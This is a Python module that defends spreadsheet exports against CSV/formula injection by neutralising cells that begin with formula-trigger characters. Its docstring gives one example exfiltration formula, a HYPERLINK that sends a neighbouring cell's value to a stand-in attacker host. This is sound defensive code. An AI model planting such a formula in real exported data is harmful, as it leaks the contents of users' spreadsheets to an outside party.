"""Downloads that a spreadsheet opens as data, never as code (CSV/formula injection, OWASP).

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by Excel,
LibreOffice and Google Sheets when the file is opened (``=HYPERLINK("http://evil.example/?leak="&A1,"click")``
sends the neighbouring cell away when clicked). Text in the report's tables can come from data files (a quote, a
source, a province's note), so every such text is made inert where it is written:

* CSV: the usual OWASP convention, a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheets hide and which
  makes the cell text;
* XLSX: a string cell (``data_type = "s"``, never ``"f"``) with the quote prefix set, so the text shows as written
  and stays text even when the cell is edited.

Only text is touched: numbers, including negative numbers, stay numbers in both formats.
"""
from __future__ import annotations

from typing import Any

#: What a spreadsheet runs when a text cell starts with it.
ACTIVE_START = ("=", "+", "-", "@", "\t", "\r")
#: The CSV neutraliser: a leading apostrophe.
CSV_PREFIX = "'"


def is_active(value: Any) -> bool:
    """True when ``value`` is text a spreadsheet would run as a formula (starts with one of :data:`ACTIVE_START`).

    Numbers (``-2``, ``-0.5``) are not text and never active.
    """
    return isinstance(value, str) and value.startswith(ACTIVE_START)


def inert(value: Any) -> Any:
    """``value`` as it goes into a CSV cell: active text prefixed with ``'``; anything else unchanged.

    Examples
    --------
    >>> inert("=1+1"), inert("-2+3"), inert(-2), inert("Lào Cai")
    ("'=1+1", "'-2+3", -2, 'Lào Cai')
    """
    return CSV_PREFIX + value if is_active(value) else value


def inert_cell(cell) -> None:
    """Make the openpyxl ``cell`` inert in place: active text becomes a string cell with the quote prefix.

    openpyxl stores a text starting with ``=`` as a formula cell (``data_type == "f"``); this sets it back to
    text. The value itself is kept as written. Numbers and other text are left alone.
    """
    if is_active(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
